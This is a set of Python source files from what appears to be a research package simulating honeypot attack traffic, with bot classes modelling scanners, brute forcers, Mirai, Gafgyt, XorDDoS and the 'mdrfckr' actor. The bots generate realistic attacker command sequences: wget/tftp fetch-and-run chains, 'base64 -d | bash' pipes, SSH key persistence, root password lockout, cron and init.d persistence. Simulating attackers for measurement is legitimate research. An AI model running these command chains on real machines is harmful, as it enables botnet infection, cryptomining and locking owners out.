not command sessions: 45M scanning, 258M scouting, and the bulk of the
80M intrusion sessions (the rest of the intrusions come from the
3245gs5662d34 campaign and the phil fingerprinters).
"""

from __future__ import annotations

import random
from datetime import date

from repro.attackers.activity import ConstantRate
from repro.attackers.base import Bot, BotContext
from repro.attackers.dictionary import root_credential, scout_credential
from repro.attackers.ippool import ClientIPPool
from repro.config import SimulationConfig
from repro.honeypot.session import ConnectionIntent
from repro.net.population import BasePopulation
from repro.util.rng import RngTree

#: Window length the paper's daily averages assume (~33 months).
_WINDOW_DAYS = 1006


class ScannerBot(Bot):
    """TCP-handshake-only sessions (the "Scanning" category)."""

    telnet_fraction = 0.35

    def __init__(self, population: BasePopulation, tree: RngTree, config: SimulationConfig) -> None:
        pool = ClientIPPool(
            "scanner", population, tree, paper_ips=400_000, scale=config.scale
        )
        super().__init__(
            "scanner",
            ConstantRate(45_000_000 / _WINDOW_DAYS, config.start, config.end),
            pool,
        )

    def build_intent(
        self, ctx: BotContext, day: date, rng: random.Random, index: int
    ) -> ConnectionIntent:
        return self.make_intent(
            rng, credentials=(), duration_s=rng.uniform(0.1, 3.0)
        )


class ScoutBruteforceBot(Bot):
    """Failed-login brute force (the dominant "Scouting" category)."""

    telnet_fraction = 0.25

    def __init__(self, population: BasePopulation, tree: RngTree, config: SimulationConfig) -> None:
        pool = ClientIPPool(
            "scout_bruteforce",
            population,
            tree,
            paper_ips=350_000,
            scale=config.scale,
        )
        super().__init__(
            "scout_bruteforce",
            ConstantRate(258_000_000 / _WINDOW_DAYS, config.start, config.end),
            pool,
        )

    def build_intent(
        self, ctx: BotContext, day: date, rng: random.Random, index: int
    ) -> ConnectionIntent:
        attempts = tuple(scout_credential(rng) for _ in range(rng.randint(1, 6)))
        return self.make_intent(
            rng, credentials=attempts, duration_s=rng.uniform(0.5, 8.0)
        )


class SilentIntruderBot(Bot):
    """Successful root logins that execute nothing ("Intrusion")."""

    def __init__(self, population: BasePopulation, tree: RngTree, config: SimulationConfig) -> None:
        pool = ClientIPPool(
            "silent_intruder",
            population,
            tree,
            paper_ips=120_000,
            scale=config.scale,
        )
        super().__init__(
            "silent_intruder",
            ConstantRate(55_000_000 / _WINDOW_DAYS, config.start, config.end),
            pool,
        )

    def build_intent(
        self, ctx: BotContext, day: date, rng: random.Random, index: int
    ) -> ConnectionIntent:
        return self.make_intent(
            rng,
            credentials=(root_credential(rng),),
            duration_s=rng.uniform(0.5, 10.0),
        )
