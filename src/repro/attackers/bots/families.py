"""Family bots with distinctive command sequences (the Figure 6 clusters).

Beyond the minimal Cluster-1 loaders, the paper's clustering isolates
family-specific behaviours: Gafgyt's multi-fallback chains (C-2),
Mirai's staged busybox loaders (C-3), a Mirai/CoinMiner cron hybrid
(C-4), and XorDDoS's long echo-hex dropper with init.d persistence
(C-6).  XorDDoS stops abruptly in early 2024 — the takedown signal the
paper discusses — and Mirai resurges in spring 2024 with the Corona,
Kyton and Ares strains.
"""

from __future__ import annotations

import random
from datetime import date

from repro.attackers.activity import Campaign, ConstantRate, SumRate, Wave
from repro.attackers.base import SAFE_NAME_ALPHABET, Bot, BotContext
from repro.attackers.dictionary import root_credential
from repro.attackers.ippool import ClientIPPool
from repro.attackers.malware import MIRAI_2024_STRAINS, MalwareFamily
from repro.config import SimulationConfig
from repro.honeypot.session import ConnectionIntent
from repro.net.population import BasePopulation
from repro.util.rng import RngTree

#: The documented end of XorDDoS activity (early 2024).
XORDDOS_STOP = date(2024, 1, 20)


class GafgytWaveBot(Bot):
    """Gafgyt (C-2): fallback-heavy loader chains in campaign waves."""

    def __init__(self, population: BasePopulation, tree: RngTree, config: SimulationConfig) -> None:
        pool = ClientIPPool(
            "gafgyt_wave", population, tree, paper_ips=45_000, scale=config.scale
        )
        activity = SumRate(
            [
                Wave(date(2022, 2, 20), 25, 8_000),  # the early-2022 spike
                Wave(date(2022, 12, 10), 20, 5_000),
                Wave(date(2023, 9, 15), 20, 4_000),
            ]
        )
        super().__init__("gafgyt_wave", activity, pool)

    def build_intent(
        self, ctx: BotContext, day: date, rng: random.Random, index: int
    ) -> ConnectionIntent:
        sample = ctx.malware.sample_for(
            MalwareFamily.GAFGYT, stream=self.name,
            day_ordinal=day.toordinal(), strain="wave",
        )
        host = ctx.infrastructure.pick_host(rng, day)
        arch = rng.choice(("x86", "arm7", "mips", "sh4"))
        filename = f"gaf.{arch}"
        http_url = host.url_for(filename)
        ftp_url = host.url_for(filename, scheme="ftp")
        captured = rng.random() < 0.55
        remote = (
            ((http_url, sample.content), (ftp_url, sample.content))
            if captured
            else ()
        )
        lines = (
            "cd /tmp || cd /var/run || cd /dev/shm",
            f"ftpget -u anonymous -p anonymous {host.ip} {filename} {filename}"
            f" || wget {http_url}",
            f"chmod 777 {filename}",
            f"./{filename} telnet.loader",
            f"rm -rf {filename}",
            "history -c",
        )
        return self.make_intent(
            rng,
            credentials=(root_credential(rng),),
            command_lines=lines,
            remote_files=remote,
        )


class MiraiWaveBot(Bot):
    """Mirai (C-3): staged multi-arch busybox loader, in waves.

    The spring-2024 resurgence serves the classic strains the paper
    verified against abuse databases (Corona, Kyton, Ares).
    """

    telnet_fraction = 0.2

    def __init__(self, population: BasePopulation, tree: RngTree, config: SimulationConfig) -> None:
        pool = ClientIPPool(
            "mirai_wave", population, tree, paper_ips=70_000, scale=config.scale
        )
        activity = SumRate(
            [
                Wave(date(2022, 3, 15), 22, 4_500),
                Wave(date(2022, 12, 15), 15, 5_200),  # the Dec-2022 burst
                Campaign(date(2024, 3, 1), config.end, 4_000),  # resurgence
            ]
        )
        super().__init__("mirai_wave", activity, pool)

    def _strain(self, day: date, rng: random.Random) -> str:
        if day >= date(2024, 3, 1):
            return rng.choice(list(MIRAI_2024_STRAINS))
        return "classic"

    def build_intent(
        self, ctx: BotContext, day: date, rng: random.Random, index: int
    ) -> ConnectionIntent:
        strain = self._strain(day, rng)
        sample = ctx.malware.sample_for(
            MalwareFamily.MIRAI, stream=self.name,
            day_ordinal=day.toordinal(), strain=strain,
        )
        host = ctx.infrastructure.pick_host(rng, day)
        arch = rng.choice(("x86", "arm", "arm7", "mips", "mpsl", "sh4"))
        filename = f"mirai.{arch}"
        url = host.url_for(filename)
        tftp_url = host.url_for(filename, scheme="tftp")
        captured = rng.random() < (0.5 if day < date(2023, 1, 1) else 0.25)
        remote = (
            ((url, sample.content), (tftp_url, sample.content))
            if captured
            else ()
        )
        # the five-char applet probe makes these sessions land in the
        # bbox_5_char_v2 category — the Mirai-style busybox loader that
        # stays active through the 2024 resurgence
        marker = "".join(
            rng.choice("ABCDEFGHJKLMNPQRSTUVWXYZ") for _ in range(5)
        )
        lines = (
            f"/bin/busybox {marker}",
            "cd /tmp || cd /var/run || cd /mnt",
            f"/bin/busybox wget {url} -O {filename} || "
            f"/bin/busybox tftp -g -r {filename} {host.ip}",
            f"/bin/busybox chmod 777 {filename}",
            f"./{filename} {strain.lower()}.scan",
            f"rm -rf {filename}",
        )
        return self.make_intent(
            rng,
            credentials=(root_credential(rng),),
            command_lines=lines,
            remote_files=remote,
        )


class MiraiCoinMinerBot(Bot):
    """C-4: hybrid sessions staging both a Mirai bot and a miner."""

    def __init__(self, population: BasePopulation, tree: RngTree, config: SimulationConfig) -> None:
        pool = ClientIPPool(
            "mirai_coinminer", population, tree, paper_ips=25_000,
            scale=config.scale,
        )
        activity = SumRate(
            [
                Campaign(date(2023, 3, 1), date(2023, 8, 31), 2_500),
                Wave(date(2024, 5, 10), 20, 2_000),
            ]
        )
        super().__init__("mirai_coinminer", activity, pool)

    def build_intent(
        self, ctx: BotContext, day: date, rng: random.Random, index: int
    ) -> ConnectionIntent:
        family = rng.choice((MalwareFamily.MIRAI, MalwareFamily.COINMINER))
        sample = ctx.malware.sample_for(
            family, stream=self.name, day_ordinal=day.toordinal(),
            strain="hybrid",
        )
        host = ctx.infrastructure.pick_host(rng, day)
        url = host.url_for("m.sh")
        captured = rng.random() < 0.45
        remote = ((url, sample.content),) if captured else ()
        lines = (
            "cd /tmp",
            f"wget {url} -O m.sh",
            "chmod +x m.sh",
            "./m.sh",
            'echo "*/10 * * * * /tmp/m.sh" | crontab -',
            "nohup ./m.sh",
            "crontab -l",
        )
        return self.make_intent(
            rng,
            credentials=(root_credential(rng),),
            command_lines=lines,
            remote_files=remote,
        )


class XorDdosBot(Bot):
    """XorDDoS (C-6): long echo-hex dropper with init.d persistence."""

    def __init__(self, population: BasePopulation, tree: RngTree, config: SimulationConfig) -> None:
        pool = ClientIPPool(
            "xorddos", population, tree, paper_ips=35_000, scale=config.scale
        )
        super().__init__(
            "xorddos",
            ConstantRate(1_100, config.start, XORDDOS_STOP),
            pool,
        )

    def build_intent(
        self, ctx: BotContext, day: date, rng: random.Random, index: int
    ) -> ConnectionIntent:
        sample = ctx.malware.sample_for(
            MalwareFamily.XORDDOS, stream=self.name,
            day_ordinal=day.toordinal(), strain="xor",
        )
        name = "".join(rng.choice(SAFE_NAME_ALPHABET) for _ in range(10))
        # the payload is written through the shell in hex chunks, so the
        # honeypot always captures it (echo droppers cannot hide)
        chunks = [
            sample.content[offset : offset + 24]
            for offset in range(0, len(sample.content), 24)
        ]
        lines: list[str] = ["cd /tmp", f"rm -rf /tmp/{name}"]
        for position, chunk in enumerate(chunks):
            escaped = "".join(f"\\x{byte:02x}" for byte in chunk)
            redir = ">" if position == 0 else ">>"
            lines.append(f'echo -ne "{escaped}" {redir} {name}')
        lines.extend(
            [
                f"chmod 0755 /tmp/{name}",
                f"/tmp/{name}",
                f"cp /tmp/{name} /etc/init.d/{name}",
                f"ln /etc/init.d/{name} /etc/rc4.d/S90{name}",
                f"rm -rf /tmp/{name}",
            ]
        )
        return self.make_intent(
            rng,
            credentials=(root_credential(rng),),
            command_lines=tuple(lines),
        )


def build_family_bots(
    population: BasePopulation, tree: RngTree, config: SimulationConfig
) -> list[Bot]:
    return [
        GafgytWaveBot(population, tree, config),
        MiraiWaveBot(population, tree, config),
        MiraiCoinMinerBot(population, tree, config),
        XorDdosBot(population, tree, config),
    ]
