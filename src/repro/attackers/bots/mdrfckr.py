"""The "mdrfckr" actor — the largest attack in the dataset (section 9).

Four coordinated behaviours share (mostly) one client-IP pool:

* ``mdrfckr`` — the initial variant: installs a persistence SSH key
  labelled ``mdrfckr``, locks the victim out by changing the root
  password, then runs a fixed reconnaissance sequence.
* ``mdrfckr_variant`` — appears 2022-12-08, an order of magnitude
  smaller: no password change, removes WorkMiner's ``/tmp/auth.sh`` /
  ``/tmp/secure.sh``, kills their processes and clears
  ``/etc/hosts.deny``.
* ``mdrfckr_base64`` — only during the eight documented low-activity
  windows: uploads base64-encoded cryptominer / shellbot / cleanup
  scripts from a dispersed pool of one-shot IPs.
* ``login_3245gs5662d34`` — the login-only campaign starting
  2022-12-08 18:00 UTC with a 99.4 % client-IP overlap with mdrfckr.
"""

from __future__ import annotations

import base64
import random
from datetime import date

from repro.attackers.activity import (
    Campaign,
    ConstantRate,
    RampUp,
    SumRate,
    Suppressed,
    Wave,
)
from repro.attackers.base import Bot, BotContext
from repro.attackers.ippool import ClientIPPool, SharedPool
from repro.config import SimulationConfig
from repro.events import event_windows
from repro.honeypot.session import ConnectionIntent
from repro.net.population import BasePopulation
from repro.util.rng import RngTree

#: The constant persistence key (its hash is what abuse DBs label
#: "CoinMiner"/"Malicious"; chosen so it does NOT collide with the
#: rapperbot key regex, which requires "...DAQABA").
MDRFCKR_KEY = (
    "ssh-rsa AAAAB3NzaC1yc2EAAAADAQABmdRWq3vRyhijDXW8fLJuveMifz1oiVOTQ"
    "3kLrkVDQCJmdr mdrfckr"
)

#: Start of the variant + the 3245gs5662d34 credential campaign.
VARIANT_START = date(2022, 12, 8)
#: Seconds into 2022-12-08 when the credential campaign began (18:00 UTC).
CAMPAIGN_START_SECONDS = 18 * 3600

#: The eight C2-ish IPs referenced by the cleanup script, with the open
#: ports the paper reports for each.
C2_INFRASTRUCTURE: tuple[tuple[str, tuple[int, ...]], ...] = (
    ("45.9.148.101", (22,)),
    ("45.9.148.102", (22,)),
    ("185.247.22.14", (22,)),
    ("185.247.22.15", (22,)),
    ("194.38.20.199", (1337, 9999)),   # ZNC IRC bouncer
    ("91.241.19.84", (80, 3306)),
    ("103.56.62.131", (8080,)),
    ("147.78.47.224", (43, 80, 443)),
)

_RECON_LINES = (
    "cat /proc/cpuinfo | grep name | head -n 1 | awk '{print $4,$5,$6,$7,$8,$9;}'",
    "free -m | grep Mem | awk '{print $2 ,$3, $4, $5, $6, $7}'",
    "ls -lh $(which ls)",
    "which ls",
    "crontab -l",
    "w",
    "uname -m",
    "top",
    "uname",
    "uname -a",
    "whoami",
    "lscpu | grep Model",
)

_ALNUM = "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789"


def _key_install_lines() -> tuple[str, ...]:
    return (
        "uname -s -v -n -r -m",
        "cd ~; chattr -ia .ssh; lockr -ia .ssh",
        'cd ~ && rm -rf .ssh && mkdir .ssh && echo "' + MDRFCKR_KEY + '" '
        ">> .ssh/authorized_keys && chmod -R go= ~/.ssh",
    )


def _lockout_line(rng: random.Random) -> str:
    password = "".join(rng.choice(_ALNUM) for _ in range(16))
    return f'echo "root:{password}"|chpasswd|bash'


class MdrfckrBot(Bot):
    """The initial mdrfckr behaviour (key install + lockout + recon)."""

    ssh_versions = ("SSH-2.0-libssh-0.9.6", "SSH-2.0-libssh2_1.8.2")

    def __init__(self, population: BasePopulation, tree: RngTree, config: SimulationConfig) -> None:
        self.shared_pool = ClientIPPool(
            "mdrfckr", population, tree, paper_ips=270_000, scale=config.scale,
            min_size=8,
        )
        # ~45k sessions/day baseline (≈46M over the window) with the
        # honeynet-deployment ramp, an onset-of-war bump, and collapses
        # during the eight documented event windows.
        base = SumRate(
            [
                ConstantRate(45_000, config.start, config.end),
                Wave(date(2022, 2, 25), 18, 22_000),
            ]
        )
        activity = Suppressed(
            RampUp(base, config.start, ramp_days=40),
            event_windows(),
            floor_fraction=0.001,
        )
        super().__init__("mdrfckr", activity, self.shared_pool)
        self._suppressed: Suppressed = activity

    def in_low_activity_window(self, day: date) -> bool:
        return self._suppressed.in_window(day)

    def build_intent(
        self, ctx: BotContext, day: date, rng: random.Random, index: int
    ) -> ConnectionIntent:
        lines = _key_install_lines() + (_lockout_line(rng),) + _RECON_LINES
        return self.make_intent(
            rng,
            credentials=(("root", rng.choice(("1234", "admin", "123456"))),),
            command_lines=lines,
            duration_s=rng.uniform(3.0, 15.0),
        )


class MdrfckrVariantBot(Bot):
    """The post-2022-12-08 variant (WorkMiner interference, no lockout)."""

    ssh_versions = ("SSH-2.0-libssh-0.9.6",)

    def __init__(self, base: MdrfckrBot, config: SimulationConfig) -> None:
        activity = Suppressed(
            Campaign(VARIANT_START, config.end, 4_500),
            event_windows(),
            floor_fraction=0.001,
        )
        super().__init__("mdrfckr_variant", activity, base.shared_pool)

    def build_intent(
        self, ctx: BotContext, day: date, rng: random.Random, index: int
    ) -> ConnectionIntent:
        lines = _key_install_lines() + (
            "rm -rf /tmp/auth.sh /tmp/secure.sh",
            "pkill -9 -f auth.sh; pkill -9 -f secure.sh",
            'echo "" > /etc/hosts.deny',
        ) + _RECON_LINES
        return self.make_intent(
            rng,
            credentials=(("root", rng.choice(("1234", "admin"))),),
            command_lines=lines,
            duration_s=rng.uniform(3.0, 15.0),
        )


def _base64_script(kind: str, rng: random.Random) -> str:
    """One of the three decoded script families (section 9)."""
    if kind == "cryptominer":
        wallet = "".join(rng.choice(_ALNUM) for _ in range(24))
        body = (
            "#!/bin/sh\n"
            f"WALLET={wallet}\n"
            "curl -s http://pool.invalid/xmrig.tar.gz -o /tmp/.xm.tar.gz\n"
            "nohup /tmp/.xm -o pool.invalid:3333 -u $WALLET &\n"
        )
    elif kind == "shellbot":
        channel = "".join(rng.choice("abcdefghij") for _ in range(6))
        body = (
            "#!/bin/sh\n"
            "# ShellBot IRC backdoor\n"
            f"SERVER=irc.invalid CHANNEL=#{channel} PORT=6667\n"
            "perl -e 'irc connect' \n"
        )
    else:  # cleanup
        kills = "\n".join(
            f"pkill -9 -f {ip}" for ip, _ in C2_INFRASTRUCTURE
        )
        body = "#!/bin/sh\n# cleanup\n" + kills + "\n"
    return base64.b64encode(body.encode("utf-8")).decode("ascii")


class MdrfckrBase64Bot(Bot):
    """Out-of-the-ordinary uploads seen only in low-activity windows."""

    min_expected_per_day = 0.25

    def __init__(self, base: MdrfckrBot, population: BasePopulation, tree: RngTree, config: SimulationConfig) -> None:
        # dispersed one-shot infrastructure (1,624 unique IPs in paper)
        pool = ClientIPPool(
            "mdrfckr_base64", population, tree, paper_ips=1_624,
            scale=config.scale, min_size=24,
        )
        windows = event_windows()
        activity = SumRate(
            [Campaign(start, end, 600) for start, end in windows]
        )
        super().__init__("mdrfckr_base64", activity, pool)
        self._base = base

    def client_ip(self, rng: random.Random) -> str:
        # one-shot IPs: uniform, no heavy hitters
        return self.pool.pick_uniform(rng)

    def build_intent(
        self, ctx: BotContext, day: date, rng: random.Random, index: int
    ) -> ConnectionIntent:
        kind = rng.choice(("cryptominer", "shellbot", "cleanup"))
        payload = _base64_script(kind, rng)
        lines = _key_install_lines() + (
            f"echo {payload} | base64 -d | bash",
        )
        return self.make_intent(
            rng,
            credentials=(("root", "1234"),),
            command_lines=lines,
            duration_s=rng.uniform(4.0, 20.0),
        )


class Login3245Bot(Bot):
    """The 3245gs5662d34 login-only campaign (24M sessions)."""

    def __init__(self, base: MdrfckrBot, population: BasePopulation, tree: RngTree, config: SimulationConfig) -> None:
        pool = SharedPool(
            "login_3245gs5662d34", base.shared_pool, population, tree,
            overlap=0.994,
        )
        activity = Campaign(VARIANT_START, config.end, 38_000)
        super().__init__("login_3245gs5662d34", activity, pool)

    def start_seconds(self, rng: random.Random, day: date) -> float:
        if day == VARIANT_START:
            return rng.uniform(CAMPAIGN_START_SECONDS, 86_400)
        return rng.uniform(0, 86_400)

    def build_intent(
        self, ctx: BotContext, day: date, rng: random.Random, index: int
    ) -> ConnectionIntent:
        return self.make_intent(
            rng,
            credentials=(("root", "3245gs5662d34"),),
            duration_s=rng.uniform(0.3, 3.0),
        )


class WorkMinerBot(Bot):
    """The WorkMiner botnet whose defences mdrfckr-variant disables."""

    def __init__(self, population: BasePopulation, tree: RngTree, config: SimulationConfig) -> None:
        pool = ClientIPPool(
            "workminer", population, tree, paper_ips=20_000, scale=config.scale
        )
        super().__init__(
            "workminer", ConstantRate(500, config.start, config.end), pool
        )

    def build_intent(
        self, ctx: BotContext, day: date, rng: random.Random, index: int
    ) -> ConnectionIntent:
        blocked = f"10.{rng.randint(0,255)}.{rng.randint(0,255)}.{rng.randint(1,254)}"
        lines = (
            "echo '#!/bin/sh' > /tmp/auth.sh",
            "echo '#!/bin/sh' > /tmp/secure.sh",
            f'echo "sshd: {blocked}" >> /etc/hosts.deny',
        )
        return self.make_intent(
            rng,
            credentials=(("root", rng.choice(("admin", "1234")),),),
            command_lines=lines,
        )
