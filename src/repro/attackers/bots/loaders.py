"""Generic loader bots — the paper's ``gen_*`` categories.

A loader session introduces a file using some combination of the four
introduction methods the paper keys on (``wget``, ``curl``, ``ftp``,
``echo``), optionally executes it, then cleans up.  These are the
minimal dropper chains behind Cluster 1's Mirai/Dofloo/CoinMiner/Gafgyt
mix (section 6) and the bulk of Figures 3 and 4.

Whether the honeypot *captures* the dropped file depends on whether the
storage host serves it content: the per-era capture probability is the
mechanism behind Figure 4(a)'s collapse of "file exists" sessions after
2022 (attackers increasingly refuse honeypots or switch to uncapturable
channels).
"""

from __future__ import annotations

import base64
import random
from datetime import date
from typing import Callable

from repro.attackers.activity import (
    ActivityModel,
    Campaign,
    ConstantRate,
    LinearTrend,
    Wave,
)
from repro.attackers.base import SAFE_NAME_ALPHABET, Bot, BotContext
from repro.attackers.dictionary import root_credential
from repro.attackers.ippool import ClientIPPool
from repro.attackers.malware import MalwareFamily
from repro.config import SimulationConfig
from repro.honeypot.session import ConnectionIntent
from repro.net.population import BasePopulation
from repro.util.rng import RngTree

#: Cluster-1's family mix (section 6).
C1_FAMILIES = (
    MalwareFamily.MIRAI,
    MalwareFamily.DOFLOO,
    MalwareFamily.COINMINER,
    MalwareFamily.GAFGYT,
)

#: Filenames that never collide with a token-based category regex.
NEUTRAL_FILENAMES = ("bins.sh", "x86", "run.sh", "a.out", "sys.armv7l")

CaptureFn = Callable[[date], float]

_ERA_BREAK = date(2023, 1, 1)


def era_capture(day: date) -> float:
    """Default capture probability: high in 2022, near-zero after.

    Reproduces the Figure 4(a) shift from >100k "file exists" sessions
    per month in 2022 to ~5k/month from 2023 on.
    """
    return 0.28 if day < _ERA_BREAK else 0.02


def steady_capture(probability: float) -> CaptureFn:
    return lambda day: probability


def random_filename(rng: random.Random) -> str:
    if rng.random() < 0.4:
        return rng.choice(NEUTRAL_FILENAMES)
    return "".join(rng.choice(SAFE_NAME_ALPHABET) for _ in range(6))


def loader_lines(
    rng: random.Random,
    tools: tuple[str, ...],
    host_ip: str,
    filename: str,
    payload_b64: str | None,
    exec_file: bool,
) -> tuple[str, tuple[str, ...]]:
    """Build a dropper command sequence.

    Returns ``(download_url, lines)``; the URL is empty when the session
    introduces the file via echo only.
    """
    lines: list[str] = ["cd /tmp || cd /var/run || cd /mnt"]
    url = ""
    fetches: list[str] = []
    if "wget" in tools:
        url = f"http://{host_ip}/{filename}"
        fetches.append(f"wget {url} -O {filename}")
    if "curl" in tools:
        url = url or f"http://{host_ip}/{filename}"
        fetches.append(f"curl -o {filename} {url}")
    if "ftp" in tools:
        fetches.append(
            f"ftpget -u anonymous -p anonymous {host_ip} {filename} {filename}"
        )
    if fetches:
        lines.append(" || ".join(fetches))
    if "echo" in tools:
        marker = payload_b64 or base64.b64encode(b"noop").decode("ascii")
        lines.append(f"echo {marker} > {filename}.b64")
        lines.append(f"base64 -d {filename}.b64 > {filename}")
    if exec_file:
        lines.append(f"chmod 777 {filename}")
        lines.append(f"./{filename}")
        lines.append(f"rm -rf {filename}")
    return url, tuple(lines)


class GenLoaderBot(Bot):
    """One ``gen_*`` behaviour: a tool set, a lifetime, a family mix."""

    def __init__(
        self,
        name: str,
        activity: ActivityModel,
        pool: ClientIPPool,
        tools: tuple[str, ...],
        exec_file: bool,
        capture: CaptureFn = era_capture,
        families: tuple[MalwareFamily, ...] = C1_FAMILIES,
        self_host_fraction: float = 0.45,
        strain: str = "default",
    ) -> None:
        super().__init__(name, activity, pool)
        self.tools = tools
        self.exec_file = exec_file
        self.capture = capture
        self.families = families
        self.self_host_fraction = self_host_fraction
        self.strain = strain

    def build_intent(
        self, ctx: BotContext, day: date, rng: random.Random, index: int
    ) -> ConnectionIntent:
        family = rng.choice(list(self.families))
        sample = ctx.malware.sample_for(
            family, stream=self.name, day_ordinal=day.toordinal(),
            strain=self.strain,
        )
        client = self.client_ip(rng)
        if rng.random() < self.self_host_fraction:
            host_ip = client  # loader served from the attacking host itself
        else:
            host_ip = ctx.infrastructure.pick_host(rng, day).ip
        filename = random_filename(rng)
        captured = rng.random() < self.capture(day)
        uses_echo_payload = "echo" in self.tools and len(self.tools) == 1
        payload_b64 = (
            base64.b64encode(sample.content).decode("ascii")
            if "echo" in self.tools
            else None
        )
        url, lines = loader_lines(
            rng, self.tools, host_ip, filename, payload_b64, self.exec_file
        )
        remote: tuple[tuple[str, bytes], ...] = ()
        if url and (captured or uses_echo_payload):
            remote = ((url, sample.content),)
        if "ftp" in self.tools and captured:
            remote = remote + (
                (f"ftp://{host_ip}/{filename}", sample.content),
            )
        return self.make_intent(
            rng,
            credentials=(root_credential(rng),),
            command_lines=lines,
            remote_files=remote,
            duration_s=rng.uniform(2.0, 25.0),
            client_ip=client,
        )


class DirectExecBot(Bot):
    """Executes a file that was never introduced through the shell.

    Models the attackers who transfer payloads with scp/rsync (which
    Cowrie cannot capture) and then just run them — pure Figure 4(b)
    "file missing" sessions that also land in the *unknown* regex
    category (the paper's ~1M unclassified sessions).
    """

    def __init__(self, population: BasePopulation, tree: RngTree, config: SimulationConfig) -> None:
        pool = ClientIPPool(
            "direct_exec", population, tree, paper_ips=9_000, scale=config.scale
        )
        activity = LinearTrend(config.start, config.end, 300, 1_100)
        super().__init__("direct_exec", activity, pool)

    def build_intent(
        self, ctx: BotContext, day: date, rng: random.Random, index: int
    ) -> ConnectionIntent:
        filename = random_filename(rng)
        lines = (
            "cd /tmp",
            f"chmod 777 {filename}",
            f"./{filename}",
        )
        return self.make_intent(
            rng,
            credentials=(root_credential(rng),),
            command_lines=lines,
        )


def build_gen_loader_bots(
    population: BasePopulation, tree: RngTree, config: SimulationConfig
) -> list[Bot]:
    """The roster of ``gen_*`` loader bots (exec and no-exec flavours)."""

    def pool(name: str, paper_ips: int) -> ClientIPPool:
        return ClientIPPool(name, population, tree, paper_ips, config.scale)

    start, end = config.start, config.end
    bots: list[Bot] = []

    def add(
        name: str,
        activity: ActivityModel,
        tools: tuple[str, ...],
        exec_file: bool,
        paper_ips: int = 12_000,
        capture: CaptureFn = era_capture,
    ) -> None:
        bots.append(
            GenLoaderBot(
                name, activity, pool(name, paper_ips), tools, exec_file,
                capture=capture,
            )
        )

    # --- exec flavours (Figures 3(b) and 4) ---
    add("gen_wget", LinearTrend(start, end, 1_700, 350), ("wget",), True)
    add(
        "gen_curl_wget",
        Wave(date(2022, 5, 1), 40, 1_100) + ConstantRate(200, start, end),
        ("curl", "wget"),
        True,
    )
    add(
        "gen_echo_wget",
        Campaign(date(2022, 1, 1), date(2022, 12, 31), 750),
        ("echo", "wget"),
        True,
    )
    add(
        "gen_ftp_wget",
        Campaign(start, date(2023, 6, 30), 500),
        ("ftp", "wget"),
        True,
    )
    add(
        "gen_curl_echo_ftp_wget",
        Wave(date(2022, 6, 15), 30, 1_200),
        ("curl", "echo", "ftp", "wget"),
        True,
    )
    add(
        "gen_curl_ftp_wget",
        Wave(date(2022, 9, 10), 25, 800),
        ("curl", "ftp", "wget"),
        True,
    )
    add(
        "gen_echo_ftp_wget",
        Wave(date(2022, 3, 20), 20, 600),
        ("echo", "ftp", "wget"),
        True,
    )
    add(
        "gen_curl_echo_wget",
        Campaign(date(2022, 2, 1), date(2022, 10, 31), 650),
        ("curl", "echo", "wget"),
        True,
    )
    add("gen_echo", ConstantRate(150, start, end), ("echo",), True)
    add("gen_curl", ConstantRate(250, start, end), ("curl",), True)
    add("gen_ftp", Wave(date(2022, 7, 1), 30, 500), ("ftp",), True)
    add(
        "gen_curl_echo",
        Wave(date(2023, 3, 10), 30, 700),
        ("curl", "echo"),
        True,
    )
    add(
        "gen_echo_ftp",
        Wave(date(2022, 11, 5), 20, 400),
        ("echo", "ftp"),
        True,
    )

    # --- no-exec flavours (Figure 3(a): stage now, run later) ---
    add(
        "gen_curl_echo#noexec",
        ConstantRate(2_000, start, end),
        ("curl", "echo"),
        False,
        paper_ips=18_000,
    )
    add(
        "gen_curl_wget#noexec",
        ConstantRate(1_300, start, end),
        ("curl", "wget"),
        False,
    )
    add(
        "gen_curl#noexec",
        ConstantRate(800, start, end),
        ("curl",),
        False,
    )
    add(
        "gen_echo#noexec",
        ConstantRate(200, start, end),
        ("echo",),
        False,
    )
    bots.append(DirectExecBot(population, tree, config))
    return bots
