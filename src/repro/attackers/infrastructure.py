"""Malware-storage infrastructure: the hosts attackers download from.

Reproduces the paper's section-7 ecosystem:

* storage ASes skew heavily toward *recently registered*, *small*
  hosting ASes (Figure 8) — by construction, each archetype's hosts are
  stratified across the target age/size distributions, and an AS's
  registration date is anchored shortly before its hosts' first abuse;
* hosts have very different lifetimes (Figure 9) — a large churn supply
  of one-day and few-day hosts, weekly hosts, recurrent hosts that
  return after months, and heavy campaign hosts serving for months
  before the operation rotates to fresh infrastructure.

Host *counts* are sized so that a realistic number of each archetype is
active on any given day (the paper's ~3k IPs / 50 %-one-day mix implies
roughly 1.5 fresh one-day hosts per day); what the analyses observe is
the subset of hosts that sessions actually touch.
"""

from __future__ import annotations

import math
import random
from dataclasses import dataclass
from datetime import date, timedelta
from enum import Enum

from repro.config import SimulationConfig
from repro.net.asn import ASRecord, ASType
from repro.net.ipv4 import int_to_ip
from repro.net.population import BasePopulation
from repro.util.rng import RngTree


class HostArchetype(str, Enum):
    """Lifetime classes of storage hosts (drives Figure 9's shape)."""

    EPHEMERAL = "ephemeral"      # one day, never again
    SHORT = "short"              # a few consecutive days
    WEEKLY = "weekly"            # one to three weeks
    RECURRENT = "recurrent"      # bursts repeating after months
    LONGLIVED = "longlived"      # heavy month-scale campaign hosts


@dataclass(frozen=True)
class ArchetypePlan:
    """How many hosts of an archetype exist and how hot each runs."""

    archetype: HostArchetype
    per_window_day: float        # hosts per day of observation window
    minimum: int
    weight: float                # per-active-day selection intensity
    as_group_size: int           # hosts sharing one AS (temporal chunks)


#: The host-population plan (tuned against Figures 8, 9 and 17).
ARCHETYPE_PLAN: tuple[ArchetypePlan, ...] = (
    ArchetypePlan(HostArchetype.EPHEMERAL, 0.90, 60, 2.5, 3),
    ArchetypePlan(HostArchetype.SHORT, 0.18, 40, 2.5, 2),
    ArchetypePlan(HostArchetype.WEEKLY, 0.06, 20, 2.5, 1),
    ArchetypePlan(HostArchetype.RECURRENT, 0.05, 16, 4.0, 1),
    ArchetypePlan(HostArchetype.LONGLIVED, 0.012, 10, 4.0, 1),
)

#: Target session-weighted AS-age proportions (Figure 8(a)).
AGE_PROPORTIONS = (0.42, 0.33, 0.25)
#: Target session-weighted AS-size proportions (Figure 8(b)).
SIZE_PROPORTIONS = (0.21, 0.31, 0.48)


@dataclass
class StorageHost:
    """One IP serving malicious files, with its activity schedule."""

    ip: str
    asn: int
    archetype: HostArchetype
    intervals: list[tuple[date, date]]
